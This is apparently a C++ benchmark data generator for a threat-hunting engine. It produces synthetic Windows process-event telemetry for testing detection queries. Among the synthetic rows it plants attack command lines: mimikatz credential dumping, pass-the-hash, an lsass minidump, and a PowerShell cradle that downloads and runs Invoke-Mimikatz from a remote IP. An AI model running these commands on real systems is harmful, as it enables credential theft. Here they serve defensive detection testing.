#include "bench/hunt_data.h"

#include <fmt/format.h>

#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "vigil/base/time.h"
#include "vigil/schema/catalog.h"
#include "vigil/schema/table_batch.h"
#include "vigil/store/store.h"

namespace vigil::bench {
namespace {

namespace fs = std::filesystem;

uint64_t SplitMix(uint64_t x) {
  x += 0x9e3779b97f4a7c15ULL;
  x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
  x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
  return x ^ (x >> 31);
}

// Small, fast, seeded generator (SplitMix64 stream); identical output on every platform.
class Rng {
 public:
  explicit Rng(uint64_t seed) : state_(seed) {}
  uint64_t Next() {
    state_ += 0x9e3779b97f4a7c15ULL;
    return SplitMix(state_);
  }
  uint64_t Below(uint64_t n) { return Next() % n; }
  double Unit() { return static_cast<double>(Next() >> 11) * 0x1.0p-53; }

 private:
  uint64_t state_;
};

std::string Hex(uint64_t seed, size_t chars) {
  std::string out;
  for (uint64_t i = 0; out.size() < chars; ++i) {
    out += fmt::format("{:016x}", SplitMix(seed * 131 + i));
  }
  out.resize(chars);
  return out;
}

struct Row {
  int64_t ts = 0;
  size_t device = 0;
  std::string file;
  std::string folder_path;
  std::string sha256;
  int64_t pid = 0;
  std::string cmd;
  std::string account;
  std::string parent;
};

const char* kFiller[] = {"--type=renderer",
                         "/c",
                         "-NoProfile",
                         "-NonInteractive",
                         "/quiet",
                         "-k",
                         "netsvcs",
                         "-p",
                         "-s",
                         "Schedule",
                         "--lang=en-US",
                         "/norestart",
                         "-ExecutionPolicy",
                         "Bypass",
                         "--no-sandbox",
                         "/S",
                         "-Embedding",
                         "--enable-features=NetworkService",
                         "/log",
                         "-WindowStyle",
                         "Hidden"};

void AddFiller(Rng& rng, size_t target, std::string& cmd) {
  while (cmd.size() < target) {
    const uint64_t pick = rng.Below(10);
    std::string token;
    if (pick < 5) {
      token = kFiller[rng.Below(std::size(kFiller))];
    } else if (pick < 7) {
      token = fmt::format("C:\\Users\\user{:05}\\AppData\\Local\\Temp\\{:08x}.tmp",
                          rng.Below(kAccounts), rng.Next() & 0xffffffffULL);
    } else if (pick < 8) {
      token = fmt::format("--field-trial-handle={},{}", rng.Below(100000), rng.Below(1000));
    } else if (pick < 9) {
      token = fmt::format("{{{:08X}-{:04X}-{:04X}-{:012X}}}", rng.Next() & 0xffffffffULL,
                          rng.Below(65536), rng.Below(65536), rng.Next() & 0xffffffffffffULL);
    } else {
      token = fmt::format("/id:{}", rng.Below(1'000'000));
    }
    if (cmd.size() + 1 + token.size() > 300) {
      break;
    }
    cmd += ' ';
    cmd += token;
  }
}

// The rare credential-theft lines: contains "mimikatz" in several spellings; `has` matches all
// but the mimikatz64 one (one term); two carry "sekurlsa" too.
void MakeMimikatz(Rng& rng, Row& row) {
  switch (rng.Below(4)) {
    case 0:
      row.file = "mimikatz.exe";
      row.folder_path = "C:\\Users\\Public\\mimikatz.exe";
      row.cmd = "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit";
      break;
    case 1:
      row.file = "powershell.exe";
      row.folder_path = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
      row.cmd =
          "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString("
          "'http://10.20.30.40/Invoke-MiMiKaTz.ps1'); Invoke-MiMiKaTz -DumpCreds\"";
      break;
    case 2:
      row.file = "mimi.exe";
      row.folder_path = "C:\\Temp\\MIMIKATZ\\x64\\mimi.exe";
      row.cmd = "C:\\Temp\\MIMIKATZ\\x64\\mimi.exe \"sekurlsa::pth /user:admin /ntlm:" +
                Hex(rng.Next(), 32) + "\"";
      break;
    default:
      row.file = "mimikatz64.exe";
      row.folder_path = "C:\\tools\\mimikatz64.exe";
      row.cmd = "C:\\tools\\mimikatz64.exe coffee exit";
      break;
  }
  row.sha256 = Hex(0x3171 + row.file.size(), 64);
}

void MakeRow(const Universe& u, Rng& rng, int64_t ts, Row& row) {
  row.ts = ts;
  row.device = rng.Below(kDevices);
  row.pid = static_cast<int64_t>(rng.Below(16'384) * 4);
  const uint64_t who = rng.Below(100);
  row.account = who < 25   ? "system"
                : who < 30 ? "local service"
                : who < 35 ? "network service"
                           : fmt::format("user{:05}", rng.Below(kAccounts));
  static const char* kParents[] = {"explorer.exe", "explorer.exe", "explorer.exe", "svchost.exe",
                                   "svchost.exe",  "services.exe", "cmd.exe",      "powershell.exe",
                                   "chrome.exe",   "WmiPrvSE.exe", "userinit.exe", "msiexec.exe"};
  row.parent = kParents[rng.Below(std::size(kParents))];
  const uint64_t special = rng.Below(200'000);
  if (special < 2) {  // 1 in 100,000
    MakeMimikatz(rng, row);
    return;
  }
  const double draw = rng.Unit();
  const size_t f = static_cast<size_t>(
      std::lower_bound(u.file_cdf.begin(), u.file_cdf.end(), draw) - u.file_cdf.begin());
  const FileInfo& file = u.files[std::min(f, kFiles - 1)];
  row.file = file.name;
  row.folder_path = file.folder + file.name;
  const double v = rng.Unit();
  const size_t variant = std::min<size_t>(v < 0.85   ? 0
                                          : v < 0.95 ? 1
                                          : v < 0.99 ? 2
                                                     : 3,
                                          file.sha256.size() - 1);
  row.sha256 = file.sha256[variant];
  const double len_draw = rng.Unit();
  const size_t target = 40 + static_cast<size_t>(len_draw * len_draw * 260);
  row.cmd.clear();
  if (file.folder.find(' ') != std::string::npos) {
    row.cmd = "\"" + row.folder_path + "\"";
  } else {
    row.cmd = file.name;
  }
  const uint64_t flavour = rng.Below(1000);
  if (file.name == "powershell.exe") {
    if (flavour < 40) {
      row.cmd += " -nop -w hidden -enc " + Hex(rng.Next(), 40 + rng.Below(80));
    } else if (flavour < 50) {
      row.cmd += " -EncodedCommand " + Hex(rng.Next(), 60);
    } else if (flavour < 80) {
      row.cmd += fmt::format(" -c Invoke-WebRequest -Uri http://cdn{}.example.com/p/{}.zip",
                             rng.Below(50), rng.Below(10000));
    } else if (flavour < 100) {
      row.cmd += " -c Invoke-Expression (Get-Content C:\\Scripts\\task.ps1 -Raw)";
    }
  } else if (file.name == "cmd.exe" && flavour < 10) {
    row.cmd += " /c powershell -enc " + Hex(rng.Next(), 48);
  } else if (flavour < 5) {
    row.cmd += fmt::format(" --url http://intranet{}.contoso.local/app", rng.Below(20));
  }
  if (special == 2) {  // "sekurlsa" without mimikatz, 1 in 200,000
    row.cmd += " & rundll32 sekurlsa::minidump lsass.dmp";
  } else if (special == 3) {  // looks close but is neither (no term match, no substring)
    row.cmd += " mimi-katz sekur_lsa";
  }
  AddFiller(rng, target, row.cmd);
}

std::string CsvQuote(std::string_view s) {
  std::string out = "\"";
  for (char c : s) {
    if (c == '"') {
      out += '"';
    }
    out += c;
  }
  out += '"';
  return out;
}

// Microsecond-granular timestamps in DuckDB's CSV form (`2026-10-24 00:00:00.123456`).
std::string CsvTime(int64_t ticks) {
  std::string s = vigil::FormatDateTime(ticks);  // ...T..:..:...fffffffZ
  s[10] = ' ';
  s.pop_back();
  if (s.size() > 26) {
    s.resize(26);
  }
  return s;
}

}  // namespace

Universe MakeUniverse() {
  Universe u;
  for (size_t d = 0; d < kDevices; ++d) {
    u.device_ids.push_back(Hex(0xde000000 + d, 40));
    u.device_names.push_back(d < 4'000 ? fmt::format("ws-{:05}.contoso.local", d)
                                       : fmt::format("srv-{:05}.contoso.local", d));
  }
  static const char* kPopular[] = {"svchost.exe",
                                   "chrome.exe",
                                   "msedge.exe",
                                   "conhost.exe",
                                   "cmd.exe",
                                   "powershell.exe",
                                   "RuntimeBroker.exe",
                                   "backgroundTaskHost.exe",
                                   "taskhostw.exe",
                                   "dllhost.exe",
                                   "rundll32.exe",
                                   "WmiPrvSE.exe",
                                   "SearchProtocolHost.exe",
                                   "OneDrive.exe",
                                   "Teams.exe",
                                   "OUTLOOK.EXE",
                                   "git.exe",
                                   "python.exe",
                                   "node.exe",
                                   "msiexec.exe",
                                   "reg.exe",
                                   "sc.exe",
                                   "net.exe",
                                   "whoami.exe",
                                   "schtasks.exe",
                                   "certutil.exe",
                                   "wscript.exe",
                                   "mshta.exe",
                                   "regsvr32.exe",
                                   "bitsadmin.exe"};
  const size_t popular = std::size(kPopular);
  for (size_t f = 0; f < kFiles; ++f) {
    FileInfo info;
    if (f < popular) {
      info.name = kPopular[f];
      if (info.name == "chrome.exe") {
        info.folder = "C:\\Program Files\\Google\\Chrome\\Application\\";
      } else if (info.name == "msedge.exe") {
        info.folder = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\";
      } else if (info.name == "powershell.exe") {
        info.folder = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\";
      } else {
        info.folder = "C:\\Windows\\System32\\";
      }
    } else {
      static const char* kStems[] = {"app", "svc", "tool", "agent", "update", "helper"};
      info.name = fmt::format("{}{:04}.exe", kStems[f % std::size(kStems)], f);
      info.folder = fmt::format("C:\\Program Files\\Vendor{:03}\\Product{}\\", f % 400, f % 7);
    }
    const size_t variants = 1 + SplitMix(f) % 4;
    for (size_t v = 0; v < variants; ++v) {
      info.sha256.push_back(Hex(0x5a000000 + f * 8 + v, 64));
    }
    u.files.push_back(std::move(info));
  }
  // Zipf, s = 1.1, over the ranks.
  double total = 0;
  for (size_t f = 0; f < kFiles; ++f) {
    total += std::pow(static_cast<double>(f + 1), -1.1);
    u.file_cdf.push_back(total);
  }
  for (double& c : u.file_cdf) {
    c /= total;
  }
  // Half the indicators are hashes of rarer variants present in the data, half are absent.
  for (size_t f = 40; f < kFiles && u.indicators.size() < kIndicators / 2; f += 2) {
    if (u.files[f].sha256.size() > 1) {
      u.indicators.push_back(u.files[f].sha256[1]);
    }
  }
  for (size_t i = 0; u.indicators.size() < kIndicators; ++i) {
    u.indicators.push_back(Hex(0x10c0000 + i, 64));
  }
  return u;
}

[[noreturn]] void Die(const std::string& what) {
  fmt::print(stderr, "vigil_hunt_bench: {}\n", what);
  std::exit(1);
}


Meta ReadMeta(const fs::path& path) {
  Meta m;
  std::ifstream in(path);
  std::string key;
  while (in >> key) {
    if (key == "rows") {
      in >> m.rows;
    } else if (key == "version") {
      in >> m.version;
    } else {
      std::string skip;
      std::getline(in, skip);
    }
  }
  return m;
}

void Generate(const Universe& u, size_t rows, const fs::path& work) {
  const auto start = std::chrono::steady_clock::now();
  fs::remove_all(work / "store");
  fs::remove(work / "meta.txt");
  const vigil::schema::TableSchema* schema =
      vigil::schema::Catalog::Default().Find("DeviceProcessEvents");
  if (schema == nullptr) {
    Die("no DeviceProcessEvents in the catalog");
  }
  auto col = [&](const char* name) {
    const int idx = schema->FindColumn(name);
    if (idx < 0) {
      Die(fmt::format("no column {}", name));
    }
    return static_cast<size_t>(idx);
  };
  const size_t c_ts = col("Timestamp"), c_devid = col("DeviceId"), c_devname = col("DeviceName"),
               c_action = col("ActionType"), c_file = col("FileName"), c_folder = col("FolderPath"),
               c_sha = col("SHA256"), c_pid = col("ProcessId"), c_cmd = col("ProcessCommandLine"),
               c_acct = col("AccountName"), c_parent = col("InitiatingProcessFileName");
  vigil::store::StoreOptions options;
  options.dir = work / "store";
  auto opened = vigil::store::Store::Open(options, vigil::schema::Catalog::Default());
  if (!opened.ok()) {
    Die("store: " + opened.status().ToString());
  }
  std::unique_ptr<vigil::store::Store> store = std::move(*opened);
  std::FILE* csv = std::fopen((work / "process_events.csv").c_str(), "wb");
  if (csv == nullptr) {
    Die("cannot write the CSV");
  }
  std::string buf =
      "Timestamp,DeviceId,DeviceName,ActionType,FileName,FolderPath,SHA256,ProcessId,"
      "ProcessCommandLine,AccountName,InitiatingProcessFileName\n";
  const int64_t now = *vigil::ParseDateTime(kNow);
  const int64_t span = 30 * vigil::kTicksPerDay;
  const int64_t first = now - span;
  Rng rng(20261101);
  vigil::schema::TableBatch batch(*schema);
  constexpr size_t kBatchRows = 65'536;
  batch.Reserve(kBatchRows);
  Row row;
  for (size_t i = 0; i < rows; ++i) {
    // Arrival order with a little jitter; microsecond granularity so CSV and store agree.
    const int64_t base =
        first + static_cast<int64_t>(static_cast<double>(span) * (static_cast<double>(i) + 0.5) /
                                     static_cast<double>(rows));
    int64_t ts = base + static_cast<int64_t>(rng.Below(10'000'000)) - 5'000'000;
    ts = std::clamp<int64_t>(ts, first + 10, now - 10);
    ts -= ts % vigil::kTicksPerMicrosecond;
    MakeRow(u, rng, ts, row);
    batch.BeginRow();
    batch.SetInt(c_ts, ts);
    batch.SetBytes(c_devid, u.device_ids[row.device]);
    batch.SetBytes(c_devname, u.device_names[row.device]);
    batch.SetBytes(c_action, "ProcessCreated");
    batch.SetBytes(c_file, row.file);
    batch.SetBytes(c_folder, row.folder_path);
    batch.SetBytes(c_sha, row.sha256);
    batch.SetInt(c_pid, row.pid);
    batch.SetBytes(c_cmd, row.cmd);
    batch.SetBytes(c_acct, row.account);
    batch.SetBytes(c_parent, row.parent);
    buf += fmt::format("{},{},{},ProcessCreated,{},{},{},{},{},{},{}\n", CsvTime(ts),
                       u.device_ids[row.device], u.device_names[row.device], row.file,
                       CsvQuote(row.folder_path), row.sha256, row.pid, CsvQuote(row.cmd),
                       row.account, row.parent);
    if (batch.rows() == kBatchRows || i + 1 == rows) {
      const vigil::Status appended = store->Append(batch);
      if (!appended.ok()) {
        Die("append: " + appended.ToString());
      }
      batch.Clear();
      if (std::fwrite(buf.data(), 1, buf.size(), csv) != buf.size()) {
        Die("CSV write failed");
      }
      buf.clear();
    }
    if ((i + 1) % 1'000'000 == 0) {
      fmt::print(stderr, "  generated {} rows\n", i + 1);
    }
  }
  std::fclose(csv);
  for (const vigil::Status& s : {store->Flush(), store->Compact(), store->Close()}) {
    if (!s.ok()) {
      Die("store: " + s.ToString());
    }
  }
  {
    std::ofstream ind(work / "indicators.csv");
    ind << "Sha256\n";
    for (const auto& h : u.indicators) {
      ind << h << "\n";
    }
  }
  {
    std::ofstream meta(work / "meta.txt");
    meta << "version " << kGeneratorVersion << "\nrows " << rows << "\nnow " << kNow << "\ndevice "
         << u.device_names[kQ6Device] << "\n";
  }
  uint64_t store_bytes = 0;
  for (const auto& entry : fs::recursive_directory_iterator(work / "store")) {
    if (entry.is_regular_file()) {
      store_bytes += entry.file_size();
    }
  }
  fmt::print("generated {} rows in {:.1f} s: store {:.1f} MB ({:.1f} bytes/row), CSV {:.1f} MB\n",
             rows, std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count(),
             static_cast<double>(store_bytes) / 1e6,
             static_cast<double>(store_bytes) / static_cast<double>(rows),
             static_cast<double>(fs::file_size(work / "process_events.csv")) / 1e6);
}

}  // namespace vigil::bench
